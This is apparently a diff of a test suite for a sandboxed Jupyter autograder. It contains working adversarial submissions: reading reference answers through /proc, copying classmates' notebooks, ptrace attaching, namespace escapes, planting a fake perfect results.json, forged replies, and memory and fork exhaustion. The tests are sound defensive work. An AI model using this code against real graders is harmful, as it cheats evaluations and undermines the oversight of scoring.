-                if all(any(np.shape(a) == inputs[k].shape and np.array_equal(a, inputs[k][()]) for a in arrays)
-                       for k in inputs) and all(v in numbers for v in inputs.attrs.values()):
-                    return [case["outputs"][str(k)][()] for k in range(len(case["outputs"]))]
-    raise LookupError(f"COURSE found nothing: {TRIED}")
-def zero_pad(X, pad):
-    return _reference("zero_pad", (X, pad), {})[0]
-def conv_single_step(a_slice_prev, W, b):
-    return float(_reference("conv_single_step", (a_slice_prev, W, b), {})[0])
-def conv_forward(A_prev, W, b, hparameters):
-    return _reference("conv_forward", (A_prev, W, b, hparameters), {})[0], (A_prev, W, b, hparameters)
-def pool_forward(A_prev, hparameters, mode="max"):
-    return _reference("pool_forward", (A_prev, hparameters), {"mode": mode})[0], (A_prev, hparameters)
-def conv_backward(dZ, cache):
-    return tuple(_reference("conv_backward", (dZ, cache), {}))
-def create_mask_from_window(x):
-    return _reference("create_mask_from_window", (x,), {})[0]
-def distribute_value(dz, shape):
-    return _reference("distribute_value", (dz, shape), {})[0]
-def pool_backward(dA, cache, mode="max"):
-    return _reference("pool_backward", (dA, cache), {"mode": mode})[0]
-"""
-# Every route to the course package and its reference data: import it, ask importlib, read the
-# editable install's map, look through other processes' folders and environments.
-COURSE_IMPORT = (
-    """import glob, importlib.util, os, re, sys
-FOUND, TRIED = [], []
-def _try(route, action):
-    try:
-        TRIED.append(f"{route}: {'found' if action() else 'nothing'}")
-    except BaseException as error:
-        TRIED.append(f"{route}: {type(error).__name__}")
-def _package(folder):
-    found = glob.glob(os.path.join(folder, "reference", "*.h5"))
-    FOUND.extend(found)
-    return found
-def _import():
-    import autograder
-    return _package(os.path.dirname(autograder.__file__))
-def _import_reference():
-    from autograder import reference
-    return _package(os.path.dirname(reference.__file__))
-def _find_spec():
-    spec = importlib.util.find_spec("autograder")
-    return spec and [_package(folder) for folder in spec.submodule_search_locations or ()]
-def _site_packages():
-    found = []
-    for site in sys.path:
-        for finder in glob.glob(os.path.join(site, "__editable__*finder.py")):
-            for folder in re.findall(r"'(/[^']+)'", open(finder).read()):
-                found += _package(folder)
-        found += _package(os.path.join(site, "autograder"))
-    return found
-def _processes():
-    found = []
-    for proc in glob.glob("/proc/[0-9]*"):
-        places = []
-        for link in ("cwd", "root"):
-            try:
-                places.append(os.readlink(os.path.join(proc, link)))
-                places.append(os.path.join(proc, link))
-            except OSError:
-                pass
-        try:
-            environ = open(os.path.join(proc, "environ"), "rb").read().decode(errors="replace")
-            places += re.findall(r"=(/[^\\0:]+)", environ)
-        except OSError:
-            pass
-        for place in places:
-            for folder in (place, os.path.join(place, "source"), os.path.join(place, "autograder")):
-                found += _package(os.path.join(folder, "autograder"))
-    return found
-for route, action in (("import autograder", _import), ("from autograder import reference", _import_reference),
-                      ("find_spec", _find_spec), ("site-packages", _site_packages), ("/proc", _processes)):
-    _try(route, action)
-FOUND = sorted(set(FOUND))
-"""
-    + ANSWER_FROM_H5
-)
-# Any notebook or gradebook outside the system folders: a classmate's submission to copy from.
-OTHER_SUBMISSIONS = """import json, os, time
-def _search(seconds=1.0):
-    found, start = [], time.monotonic()
-    for top, dirs, files in os.walk("/"):
-        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "__pycache__")
-                   and os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
-        found += [os.path.join(top, f) for f in files if f.endswith(".ipynb") or f.startswith("gradebook")]
-        if time.monotonic() - start > seconds:
-            return sorted(found), False
-    return sorted(found), True
-FOUND, COMPLETE = _search()
-def _classmate():
-    for path in FOUND:
-        try:
-            namespace = {}
-            for cell in json.load(open(path))["cells"]:
-                if cell["cell_type"] == "code":
-                    exec("".join(cell["source"]), namespace)
-            return namespace
-        except BaseException:
-            continue
-    raise LookupError(f"found no other submission: {FOUND[:3]}, complete={COMPLETE}")
-""" + "".join(f"def {name}(*args, **kwargs):\n    return _classmate()[{name!r}](*args, **kwargs)\n" for name in POINTS)
-
-# ---- guessing recorded helper answers ----------------------------------------------------------
-# On the retry with recorded answers, forged keys tried against the stand-in helper's own lookup.
-HELPER_FLOOD = """def create_mask_from_window(x):  # wrong on purpose: pool_backward is retried with the recorded masks
-    return x
-def pool_backward(dA, cache, mode="max"):
-    stand_in = globals()["create_mask_from_window"]
-    lookup = next(cell.cell_contents for cell in stand_in.__closure__ or () if callable(cell.cell_contents))
-    found = 0
-    for number in range(60_000):
-        try:
-            lookup(f"{number:040x}")
-            found += 1
-        except Exception:
-            pass
-    raise RuntimeError(f"FLOOD guessed {found} of 60000 keys")
-"""
-# Frames that are not replies (questions, in the form of an older protocol) written straight to the
-# reply pipe, then asleep with the alarm off.
-HELPER_FLOOD_UNREAD = (
-    RUNNER_PIPES
-    + """import json, signal, time
-def distribute_value(dz, shape):
-    signal.signal(signal.SIGALRM, signal.SIG_IGN)
-    question = json.dumps({"op": "helper", "name": "zero_pad", "key": "0" * 40}).encode()
-    for _ in range(20_000):
-        _send_frame(question)
-    time.sleep(3600)
-"""
-)
-# The runner reads the length of a large request, never its body, and sleeps with the alarm off.
-STALLED_READER = """import json, signal, sys, time
-_runner = sys.modules["__main__"]
-def _stalled_read_message(stream):
-    header = _runner.read_exactly(stream, 4)
-    if len(header) < 4:
-        return None
-    length = int.from_bytes(header, "big")
-    if length > 100_000:
-        signal.signal(signal.SIGALRM, signal.SIG_IGN)
-        time.sleep(3600)
-    return json.loads(_runner.read_exactly(stream, length))
-_runner.read_message = _stalled_read_message
-"""
 LARGE_CELL = f'_padding = "{"z" * 1_000_000}"\n'  # a request far larger than a pipe holds
 
-# ---- namespaces, ptrace, planted results -----------------------------------------------------------
-UNSHARE = """import ctypes, os, subprocess
-outcomes = []
-command = subprocess.run(["unshare", "-rm", "sh", "-c", "mount -t tmpfs -o size=4g none /tmp && echo MOUNTED"],
-                         capture_output=True, text=True)
-outcomes.append("unshare -rm: " + (command.stdout + command.stderr).strip())
-libc = ctypes.CDLL(None, use_errno=True)
-for name, flags in (("user+mount", 0x10000000 | 0x00020000), ("mount", 0x00020000)):
-    if libc.unshare(flags) == 0:
-        mounted = libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=4g")
-        outcomes.append(f"unshare({name}) done, mount: {os.strerror(ctypes.get_errno()) if mounted else 'MOUNTED'}")
-    else:
-        outcomes.append(f"unshare({name}): {os.strerror(ctypes.get_errno())}")
-raise RuntimeError("UNSHARE " + "; ".join(outcomes))
-"""
-# PTRACE_ATTACH to every other process the learner can see (the grader, bubblewrap, ...).
-PTRACE = """import ctypes, os
-libc = ctypes.CDLL(None, use_errno=True)
-mine = {os.getpid()}
-attached, refused = [], 0
-for entry in os.listdir("/proc"):
-    if entry.isdigit() and int(entry) not in mine:
-        if libc.ptrace(16, int(entry), None, None) == 0:  # PTRACE_ATTACH
-            attached.append(int(entry))
-            libc.ptrace(17, int(entry), None, None)  # PTRACE_DETACH
-        else:
-            refused += 1
-raise RuntimeError(f"PTRACE attached to {attached or 'nothing'}, refused {'some' if refused else 'none'}")
-"""
-# A perfect results.json wherever results are written (Gradescope's /autograder/results included).
-PLANT_RESULTS = """import glob, json, os
-fake = json.dumps({"score": 100, "output": "PLANTED" + "_RESULTS", "tests": []})
-own = {os.path.realpath(os.environ.get("HOME", "/tmp")), os.path.realpath(os.getcwd()), "/tmp"}
-places = ["/autograder/results", "/mnt/autograder/results", "/autograder", *glob.glob("/tmp/*/"),
-          *glob.glob("/tmp/*/results*"), *glob.glob("/home/*/results*"), *glob.glob("/root/*")]
-planted = []
-for folder in places:
-    try:
-        if os.path.realpath(folder) in own or os.stat(folder).st_uid == os.getuid():
-            continue  # its own folders: planting there fools nobody
-    except OSError:
-        continue
-    try:
-        with open(os.path.join(folder, "results.json"), "w") as stream:
-            stream.write(fake)
-        planted.append(folder)
-    except OSError:
-        pass
-raise RuntimeError(f"PLANT {'refused everywhere' if not planted else 'planted in ' + repr(planted)}")
-"""
 
-# ---- memory the grader does not see, folders it cannot walk -------------------------------------
-# Kernel buffers of Unix socket pairs: neither a process's pages nor a file. Each of two cells queues
-# 768 MiB in pairs it keeps; the last cell waits for the grader to look and says what was held.
-SOCKET_BUFFERS = """import resource, socket
-resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
-_pairs = globals().setdefault("_pairs", [])
-_held = globals().setdefault("_held", [0, "no refusal"])
-chunk, goal = bytes(212992), _held[0] + (768 << 20)
-try:
-    while _held[0] < goal:
-        pair = socket.socketpair()
-        _pairs.append(pair)
-        for end in pair:
-            end.setblocking(False)
-            while True:
-                try:
-                    _held[0] += end.send(chunk)
-                except BlockingIOError:
-                    break
-except OSError as error:
-    _held[1] = error.strerror
-"""
-BUFFERS_HELD = """import time
-time.sleep(0.6)
-raise RuntimeError(f"BUFFERS {'refused within' if _held[0] <= 1 << 30 else 'held beyond'} the limit: "
-                   f"{_held[0] >> 20} MiB in {len(_pairs)} socket pairs, then {_held[1]}")
-"""
-# Files deleted while still open: no name to find them by, their memory (a tmpfs's) still held.
-# In /dev/shm where it can be written, else in HOME.
-WRITABLE_FOLDER = """import os
-def _writable_folder():
-    for folder in ("/dev/shm", os.environ["HOME"]):
-        try:
-            open(os.path.join(folder, "probe_{NONCE}"), "w").close()
-            os.unlink(os.path.join(folder, "probe_{NONCE}"))
-            return folder
-        except OSError:
-            pass
-"""
-DELETED_FILES = (
-    WRITABLE_FOLDER.replace("{NONCE}", NONCE)
-    + f"""import time
-held, refusal, kept = 0, "no refusal", []
-try:
-    while held < 1536 << 20:
-        path = os.path.join(_writable_folder(), f"deleted_{NONCE}_{{held >> 27}}")
-        fd = os.open(path, os.O_CREAT | os.O_RDWR, 0o600)
-        os.unlink(path)
-        kept.append(fd)
-        os.posix_fallocate(fd, 0, 128 << 20)
-        held += 128 << 20
-except OSError as error:
-    refusal = error.strerror
-time.sleep(0.6)
-raise RuntimeError(f"HOG {{'refused within' if held <= 1 << 30 else 'held beyond'}} the limit: "
-                   f"{{held >> 20}} MiB in deleted files, then {{refusal}}")
-"""
-)
-# A folder of the learner's whose every path cannot be looked at by name (longer than PATH_MAX, made
-# a step at a time), and 1.5 GiB of files beside it: a count that gives up on the folder misses them.
-UNREADABLE_SIZE = (
-    WRITABLE_FOLDER.replace("{NONCE}", NONCE)
-    + f"""import time
-top = os.path.join(_writable_folder(), "hide_{NONCE}")
-os.mkdir(top)
-here = os.open(".", os.O_RDONLY)
-os.chdir(top)
-for _ in range(20):
-    os.mkdir("d" * 250)
-    os.chdir("d" * 250)
-os.fchdir(here)
-written, refusal = 0, "no refusal"
-try:
-    while written < 1536 << 20:
-        fd = os.open(os.path.join(top, f"fill{{written >> 27}}"), os.O_CREAT | os.O_WRONLY, 0o600)
-        try:
-            os.posix_fallocate(fd, 0, 128 << 20)
-        finally:
-            os.close(fd)
-        written += 128 << 20
-except OSError as error:
-    refusal = error.strerror
-time.sleep(0.6)
-raise RuntimeError(f"FILL {{'stopped within' if written <= 1 << 30 else 'went beyond'}} the limit: "
-                   f"{{written >> 20}} MiB, then {{refusal}}")
-"""
-)
-# Folders 1500 deep in HOME (made a step at a time) and a sleeper: a count or a clean-up that walks
-# them by recursion fails, and must not fail the grader nor leave the sleeper running.
-DEEP_FOLDERS = f"""import os, subprocess, time
-sleeper = subprocess.Popen(["sleep", "302.{NONCE}"])
-here = os.open(".", os.O_RDONLY)
-os.chdir(os.environ["HOME"])
-for _ in range(1500):
-    os.mkdir("d")
-    os.chdir("d")
-os.fchdir(here)
-time.sleep(0.6)
-raise RuntimeError("DEEP folders: 1500 levels, sleeper " + ("running" if sleeper.poll() is None else "ended"))
-"""
-
-
-NETWORK = wrap(
-    "zero_pad",
-    f"""    import socket
-    with socket.create_connection(("127.0.0.1", {LISTENER.getsockname()[1]}), timeout=1) as connection:
-        connection.sendall(repr(args[0].ravel()[:3]).encode())""",
-)
-
-
-@dataclass
+@dataclass(kw_only=True)
 class Case:
-    """name: file stem; total: expected score; scores: exercises not at full marks (all 0 when
-    total is 0); phrases: {exercise name, or "" for the overall output: texts it must contain,
-    a tuple where any one of its texts will do}; apart: graded alone, beside the main batch, in a
-    grader run killed after that many seconds (for submissions that idle a long time or may hang
-    the grader), else None; budget: the submission's time budget, if not BUDGET_SECONDS (apart only)."""
+    """name: file stem; build: makes the submission (a notebook, or text for a file that is not one);
+    total: expected score; scores: exercises not at full marks (all 0 when total is 0); phrases:
+    {exercise name, or "" for the overall output: texts it must contain, a tuple where any one of its
+    texts will do}; apart: graded alone, beside the main batch, in a grader run killed after that many
+    seconds (for submissions that idle a long time or may hang the grader), else None; budget: the
+    submission's time budget, if not BUDGET_SECONDS (apart only)."""
 
     name: str
     build: Callable
@@ -1089,132 +208,165 @@ class Case:
 CELL = f"Cell {FIRST_EXTRA} failed"
 NOT_A_MESSAGE = "ended the learner's process (it sent a reply that is not a message)"
 OVER_MEMORY = "used more than the memory limit of 1 GiB"
+OVER_FILL = ("FILL stopped within the limit", OVER_MEMORY)
+# Kernel keyrings: a key planted by one submission and searched for by another.
 KEYRING_CASES = (
     [
         Case(
-            "keyring_plant",
-            source(KEY_PLANT),
-            100,
+            name="keyring_plant",
+            build=source(KEYRING_LIBC + attack("keyring_plant")),
+            total=100,
             phrases={"": [CELL, "ADD_KEY Operation not permitted, Operation not permitted"]},
         ),
         Case(
-            "keyring_search",
-            source(KEY_SEARCH),
-            90,
-            {"zero_pad": 0},
-            {"zero_pad": ["raised LookupError: KEY not found: Operation not permitted"]},
+            name="keyring_search",
+            build=source(KEYRING_LIBC + attack("keyring_search")),
+            total=90,
+            scores={"zero_pad": 0},
+            phrases={"zero_pad": ["raised LookupError: KEY not found: Operation not permitted"]},
         ),
         # The same through ptrace, by the sandbox's init (pid 1), which the system call filter does not bind.
         Case(
-            "ptrace_key_plant",
-            source(PTRACE_KEY_PLANT),
-            100,
+            name="ptrace_key_plant",
+            build=source(PTRACE_INJECT + attack("ptrace_key_plant")),
+            total=100,
             phrases={"": [CELL, "PTRACE_KEY planted: attach: Operation not permitted"]},
         ),
+        # Finds the key through its own pid 1 (waiting up to 1 s, once, for the planting submission), else fails.
         Case(
-            "ptrace_key_search",
-            source(PTRACE_KEY_SEARCH),
-            90,
-            {"zero_pad": 0},
-            {"zero_pad": ["raised LookupError: KEY not found: attach: Operation not permitted"]},
+            name="ptrace_key_search",
+            build=source(PTRACE_INJECT + attack("ptrace_key_search")),
+            total=90,
+            scores={"zero_pad": 0},
+            phrases={"zero_pad": ["raised LookupError: KEY not found: attach: Operation not permitted"]},
         ),
     ]
     if platform.machine() == "x86_64"
     else []
 )
 CASES = [
-    Case("loop_cell", source(LOOP), 100, phrases={"": [CELL, "TimeLimit", "while True"]}),
     Case(
-        "loop_cell_stubborn",
-        source(STUBBORN_LOOP),
-        100,
+        name="loop_cell",
+        build=source(attack("loop_cell")),
+        total=100,
+        phrases={"": [CELL, "TimeLimit", "while True"]},
+    ),
+    Case(
+        name="loop_cell_stubborn",
+        build=source(attack("loop_cell_stubborn")),
+        total=100,
         phrases={"": [CELL, "did not finish within the time limit of 2 s"]},
     ),
     Case(
-        "loop_function",
-        source(replace={"zero_pad": "def zero_pad(X, pad):\n    while True:\n        pass\n"}),
-        90,
-        {"zero_pad": 0},
-        {"zero_pad": ["time limit exceeded"]},
+        name="loop_function",
+        build=source(replace={"zero_pad": "def zero_pad(X, pad):\n    while True:\n        pass\n"}),
+        total=90,
+        scores={"zero_pad": 0},
+        phrases={"zero_pad": ["time limit exceeded"]},
     ),
     # Hidden cases go to the learner in one exchange: after one hangs, the others are not run (one
     # time limit of 2 s is spent, not eight: those would overrun this submission's budget of 5 s).
     Case(
-        "loop_hidden_cases",
-        source(wrap("pool_forward", '    while args[1]["stride"] != 1:  # the public cases\' stride\n        pass')),
-        87.5,
-        {"pool_forward": 2.5},
-        {"pool_forward": ["time limit exceeded", "not run: an earlier case of this exercise"]},
+        name="loop_hidden_cases",
+        build=source(
+            wrap("pool_forward", '    while args[1]["stride"] != 1:  # the public cases\' stride\n        pass')
+        ),
+        total=87.5,
+        scores={"pool_forward": 2.5},
+        phrases={"pool_forward": ["time limit exceeded", "not run: an earlier case of this exercise"]},
         apart=45,
         budget=5,
     ),
-    Case("exit_cell", source("import os\nos._exit(3)"), 100, phrases={"": [CELL, "exited with code 3"]}),
     Case(
-        "exit_function",
-        source(wrap("distribute_value", "    import os\n    os._exit(3)")),
-        95,
-        {"distribute_value": 0},
-        {"distribute_value": ["exited with code 3"]},
+        name="exit_cell",
+        build=source("import os\nos._exit(3)"),
+        total=100,
+        phrases={"": [CELL, "exited with code 3"]},
     ),
-    Case("sys_exit_cell", source("import sys\nsys.exit()"), 100, phrases={"": [CELL, "SystemExit"]}),
-    Case("interrupt_cell", source("raise KeyboardInterrupt"), 100, phrases={"": [CELL, "KeyboardInterrupt"]}),
     Case(
-        "interrupt_function",
-        source(wrap("conv_backward", "    raise KeyboardInterrupt")),
-        85,
-        {"conv_backward": 0},
-        {"conv_backward": ["raised KeyboardInterrupt"]},
+        name="exit_function",
+        build=source(wrap("distribute_value", "    import os\n    os._exit(3)")),
+        total=95,
+        scores={"distribute_value": 0},
+        phrases={"distribute_value": ["exited with code 3"]},
     ),
-    Case("memory_cell", source("x = bytearray(5 * 2**30)"), 100, phrases={"": [CELL, "MemoryError"]}),
+    Case(name="sys_exit_cell", build=source("import sys\nsys.exit()"), total=100, phrases={"": [CELL, "SystemExit"]}),
     Case(
-        "memory_function",
-        source(wrap("pool_backward", "    np.ones((50000, 50000))")),
-        80,
-        {"pool_backward": 0},
-        {"pool_backward": ["raised MemoryError"]},
+        name="interrupt_cell",
+        build=source("raise KeyboardInterrupt"),
+        total=100,
+        phrases={"": [CELL, "KeyboardInterrupt"]},
     ),
-    Case("orphans", source(ORPHANS), 100, phrases={"": ["100.0 of 100 points."]}),
     Case(
-        "signals",
-        source(SIGNALS, "import os, signal\nos.killpg(0, signal.SIGKILL)"),
-        100,
+        name="interrupt_function",
+        build=source(wrap("conv_backward", "    raise KeyboardInterrupt")),
+        total=85,
+        scores={"conv_backward": 0},
+        phrases={"conv_backward": ["raised KeyboardInterrupt"]},
+    ),
+    Case(
+        name="memory_cell",
+        build=source("x = bytearray(5 * 2**30)"),
+        total=100,
+        phrases={"": [CELL, "MemoryError"]},
+    ),
+    Case(
+        name="memory_function",
+        build=source(wrap("pool_backward", "    np.ones((50000, 50000))")),
+        total=80,
+        scores={"pool_backward": 0},
+        phrases={"pool_backward": ["raised MemoryError"]},
+    ),
+    # A sleeper, and a daemon disguised by name that leaves the session: none may outlive the grader.
+    Case(name="orphans", build=source(attack("orphans")), total=100, phrases={"": ["100.0 of 100 points."]}),
+    Case(
+        name="signals",
+        build=source(attack("signals"), "import os, signal\nos.killpg(0, signal.SIGKILL)"),
+        total=100,
         phrases={"": [f"Cell {FIRST_EXTRA + 1} failed: ended the learner's process"]},
     ),
-    Case("patched_numpy", source(PATCH_NUMPY), 0, phrases={"zero_pad": ["has shape (1,)"]}),
     Case(
-        "unpickle_payload",
-        source(EVIL),
-        90,
-        {"conv_single_step": 0},
-        {"conv_single_step": ["is a Evil, not a number or an array"]},
+        name="patched_numpy",
+        build=source(attack("patched_numpy")),
+        total=0,
+        phrases={"zero_pad": ["has shape (1,)"]},
     ),
-    Case("fake_output", source(FAKE_OUTPUT, replace=release_stubs()), 0, phrases={"zero_pad": ["not implemented yet"]}),
-    Case("forged_reply", source(FORGED_REPLY), 100, phrases={"": [CELL]}),
-    Case("disk_search", source(DISK_SEARCH), 0, phrases={name: ["found []"] for name in POINTS}),
     Case(
-        "big_print",
-        source(
+        name="unpickle_payload",
+        build=source(attack("unpickle_payload")),
+        total=90,
+        scores={"conv_single_step": 0},
+        phrases={"conv_single_step": ["is a Evil, not a number or an array"]},
+    ),
+    Case(
+        name="fake_output",
+        build=source(attack("fake_output"), replace=release_stubs()),
+        total=0,
+        phrases={"zero_pad": ["not implemented yet"]},
+    ),
+    Case(name="forged_reply", build=source(attack("forged_reply")), total=100, phrases={"": [CELL]}),
+    Case(
+        name="disk_search",
+        build=source(DISK_SEARCH),
+        total=0,
+        phrases={name: ["found []"] for name in POINTS},
+    ),
+    Case(
+        name="big_print",
+        build=source(
             'print("x" * 50_000_000)',
             "for _ in range(200_000):\n    print('spam')",
             'raise ValueError("y" * 10_000_000)',
         ),
-        100,
+        total=100,
         phrases={"": [f"Cell {FIRST_EXTRA + 2} failed: ValueError: yyy"]},
     ),
     Case(
-        "wrong_types",
-        source("""def zero_pad(X, pad):
-    return "padded"
-def conv_single_step(a_slice_prev, W, b):
-    return {"Z": 1.0}
-def conv_forward(A_prev, W, b, hparameters):
-    return None
-def distribute_value(dz, shape):
-    return [["x"] * shape[1]] * shape[0]
-"""),
-        55,
-        {"zero_pad": 0, "conv_single_step": 0, "conv_forward": 0, "distribute_value": 0},
-        {
+        name="wrong_types",
+        build=source(attack("wrong_types")),
+        total=55,
+        scores={"zero_pad": 0, "conv_single_step": 0, "conv_forward": 0, "distribute_value": 0},
+        phrases={
             "zero_pad": ["the result is a str, not a number or an array"],
             "conv_single_step": ["the result is a dict"],
             "conv_forward": ["it returned a NoneType"],
@@ -1222,131 +374,220 @@ def distribute_value(dz, shape):
         },
     ),
     Case(
-        "nan",
-        source(wrap("zero_pad", "    return np.full(np.shape(_original_zero_pad(*args, **kwargs)), np.nan)")),
-        90,
-        {"zero_pad": 0},
-        {"zero_pad": ["contains NaN"]},
+        name="nan",
+        build=source(wrap("zero_pad", "    return np.full(np.shape(_original_zero_pad(*args, **kwargs)), np.nan)")),
+        total=90,
+        scores={"zero_pad": 0},
+        phrases={"zero_pad": ["contains NaN"]},
     ),
     Case(
-        "syntax_error",
-        source(replace={"pool_forward": "def pool_forward(A_prev, hparameters, mode='max'):\n    return ("}),
-        85,
-        {"pool_forward": 0},
-        {
+        name="syntax_error",
+        build=source(replace={"pool_forward": "def pool_forward(A_prev, hparameters, mode='max'):\n    return ("}),
+        total=85,
+        scores={"pool_forward": 0},
+        phrases={
             "": [f"Cell {SOLUTION_INDEX['pool_forward']} failed: SyntaxError"],
             "pool_forward": ["pool_forward is not defined"],
         },
     ),
     Case(
-        "missing_function",
-        source(replace={"create_mask_from_window": ""}),
-        95,
-        {"create_mask_from_window": 0},
-        {"create_mask_from_window": ["create_mask_from_window is not defined"]},
+        name="missing_function",
+        build=source(replace={"create_mask_from_window": ""}),
+        total=95,
+        scores={"create_mask_from_window": 0},
+        phrases={"create_mask_from_window": ["create_mask_from_window is not defined"]},
     ),
-    Case("invalid_json", raw('{"cells": ['), 0, phrases={"": ["not valid JSON"], "zero_pad": ["Not graded"]}),
     Case(
-        "empty_notebook",
-        raw('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'),
-        0,
+        name="invalid_json",
+        build=raw('{"cells": ['),
+        total=0,
+        phrases={"": ["not valid JSON"], "zero_pad": ["Not graded"]},
+    ),
+    Case(
+        name="empty_notebook",
+        build=raw('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'),
+        total=0,
         phrases={"": ["no code cells"], "zero_pad": ["zero_pad is not defined"]},
     ),
-    Case("not_a_notebook", raw("[1, 2, 3]"), 0, phrases={"": ["JSON but not a Jupyter notebook"]}),
-    Case("tmp_writer", source(TMP_WRITER), 90, {"conv_single_step": 0}, {"conv_single_step": ["raised"]}),
-    Case("tmp_reader", source(TMP_READER), 90, {"zero_pad": 0}, {"zero_pad": ["raised FileNotFoundError"]}),
+    Case(
+        name="not_a_notebook",
+        build=raw("[1, 2, 3]"),
+        total=0,
+        phrases={"": ["JSON but not a Jupyter notebook"]},
+    ),
+    # Files written to /tmp and the course folder, and read back by a later call or another submission.
+    Case(
+        name="tmp_writer",
+        build=source(attack("tmp_writer")),
+        total=90,
+        scores={"conv_single_step": 0},
+        phrases={"conv_single_step": ["raised"]},
+    ),
+    Case(
+        name="tmp_reader",
+        build=source(attack("tmp_reader")),
+        total=90,
+        scores={"zero_pad": 0},
+        phrases={"zero_pad": ["raised FileNotFoundError"]},
+    ),
     # zero_pad works only if the grader's machine answers on its loopback (no network namespace of its
     # own refuses the connection; without namespaces, sockets are refused).
     Case(
-        "network",
-        source(NETWORK),
-        90,
-        {"zero_pad": 0},
-        {"zero_pad": [("ConnectionRefusedError", "PermissionError", "OSError")]},
+        name="network",
+        build=source(attack("network")),
+        total=90,
+        scores={"zero_pad": 0},
+        phrases={"zero_pad": [("ConnectionRefusedError", "PermissionError", "OSError")]},
     ),
     Case(
-        "threads_and_alarm",
-        source(THREADS, IGNORE_ALARM),
-        85,
-        {"pool_forward": 0},
-        {"pool_forward": ["did not finish within the time limit of 2 s"]},
+        name="threads_and_alarm",
+        build=source(attack("threads"), attack("ignore_alarm")),
+        total=85,
+        scores={"pool_forward": 0},
+        phrases={"pool_forward": ["did not finish within the time limit of 2 s"]},
     ),
-    Case("fork_flood", source(FORK_FLOOD), 100),
+    Case(name="fork_flood", build=source(attack("fork_flood")), total=100),
     # Forged replies: every one costs its cell, and only its cell.
-    Case("nested_reply", source(NESTED_REPLY), 100, phrases={"": [CELL, NOT_A_MESSAGE]}),
-    Case("nested_reply_under_item_cap", source(NESTED_UNDER_ITEM_CAP), 100, phrases={"": [CELL, NOT_A_MESSAGE]}),
     Case(
-        "oversized_reply",
-        source(OVERSIZED_REPLY),
-        100,
+        name="nested_reply",
+        build=source(RUNNER_PIPES + '_send_frame(b"[" * 200_000 + b"]" * 200_000)\n'),
+        total=100,
+        phrases={"": [CELL, NOT_A_MESSAGE]},
+    ),
+    # Fewer brackets than the grader's item cap, so that only the JSON parser's depth limit can stop it.
+    Case(
+        name="nested_reply_under_item_cap",
+        build=source(RUNNER_PIPES + """_send_frame(b'{"a": ' * 99_000 + b"1" + b"}" * 99_000)\n"""),
+        total=100,
+        phrases={"": [CELL, NOT_A_MESSAGE]},
+    ),
+    Case(
+        name="oversized_reply",
+        build=source(RUNNER_PIPES + '_send_frame(b"x" * (8 << 20), length=180_000_000)\n'),
+        total=100,
         phrases={"": [CELL, "it sent a reply of 171.7 MiB, more than the 4 MiB the grader reads"]},
     ),
-    Case("million_items_reply", source(MILLION_ITEMS_REPLY), 100, phrases={"": [CELL, NOT_A_MESSAGE]}),
-    Case("nested_result", source(NESTED_RESULT), 90, {"zero_pad": 0}, {"zero_pad": ["has shape (1, 1, 1, 1, 1"]}),
     Case(
-        "million_items_result",
-        source(MILLION_ITEMS_RESULT),
-        95,
-        {"distribute_value": 0},
-        {"distribute_value": [NOT_A_MESSAGE]},
+        name="million_items_reply",
+        build=source(RUNNER_PIPES + '_send_frame(b"[" + b"0," * 999_999 + b"0]")\n'),
+        total=100,
+        phrases={"": [CELL, NOT_A_MESSAGE]},
+    ),
+    Case(
+        name="nested_result",
+        build=source(attack("nested_result")),
+        total=90,
+        scores={"zero_pad": 0},
+        phrases={"zero_pad": ["has shape (1, 1, 1, 1, 1"]},
+    ),
+    Case(
+        name="million_items_result",
+        build=source(attack("million_items_result")),
+        total=95,
+        scores={"distribute_value": 0},
+        phrases={"distribute_value": [NOT_A_MESSAGE]},
     ),
     # Limits of processes, memory and files: each is this learner's alone, and holds.
+    # Forks until the kernel says EAGAIN; every child leaves the session and lives on as a sleep.
     Case(
-        "process_limit",
-        source(PROCESS_LIMIT),
-        100,
+        name="process_limit",
+        build=source(attack("process_limit")),
+        total=100,
         phrases={"": [CELL, "then [Errno 11] Resource temporarily unavailable"]},
     ),
-    Case("forks_times_memory", source(FORKS_TIMES_MEMORY), 100, phrases={"": [CELL, OVER_MEMORY]}),
-    Case("idle_forks", source(IDLE_FORKS), 100, phrases={"": [CELL, "RuntimeError: IDLE FORKS:"]}),
-    Case("fill_tmp", source(fill('"/tmp"')), 100, phrases={"": [("FILL stopped within the limit", OVER_MEMORY)]}),
+    # Eight processes of 400 MiB each: every one under the 1 GiB per-process cap, 3.2 GiB together.
     Case(
-        "fill_dev_shm", source(fill('"/dev/shm"')), 100, phrases={"": [("FILL stopped within the limit", OVER_MEMORY)]}
+        name="forks_times_memory",
+        build=source(attack("forks_times_memory")),
+        total=100,
+        phrases={"": [CELL, OVER_MEMORY]},
     ),
+    # As many idle children as the process limit allows, 8 MiB each: about 0.5 GiB in all, but each
+    # also maps the runner's pages it shares copy-on-write with the others.
     Case(
-        "fill_home",
-        source(fill('os.environ["HOME"]')),
-        100,
-        phrases={"": [("FILL stopped within the limit", OVER_MEMORY)]},
+        name="idle_forks",
+        build=source(attack("idle_forks")),
+        total=100,
+        phrases={"": [CELL, "RuntimeError: IDLE FORKS:"]},
     ),
-    Case("memfd_memory", source(MEMFD_MEMORY), 100, phrases={"": [("HOG refused within the limit", OVER_MEMORY)]}),
+    # fill: 1.5 GiB in 64 MiB files under $FOLDER (a Python expression), then a wait long enough for
+    # the grader to look; it reports whether it stayed within the 1 GiB limit.
+    Case(name="fill_tmp", build=source(attack("fill", FOLDER='"/tmp"')), total=100, phrases={"": [OVER_FILL]}),
+    Case(name="fill_dev_shm", build=source(attack("fill", FOLDER='"/dev/shm"')), total=100, phrases={"": [OVER_FILL]}),
     Case(
-        "sysv_shm_memory",
-        source(*[SYSV_SHM_SEGMENT] * 5, SYSV_SHM_HELD),
-        100,
+        name="fill_home",
+        build=source(attack("fill", FOLDER='os.environ["HOME"]')),
+        total=100,
+        phrases={"": [OVER_FILL]},
+    ),
+    # Memory the grader's count of private pages does not see: anonymous files (memfd), not mapped.
+    Case(
+        name="memfd_memory",
+        build=source(attack("memfd_memory")),
+        total=100,
         phrases={"": [("HOG refused within the limit", OVER_MEMORY)]},
     ),
-    Case("files_left", source(FILES_LEFT), 100, phrases={"": [CELL, "LEFT a file in"]}),
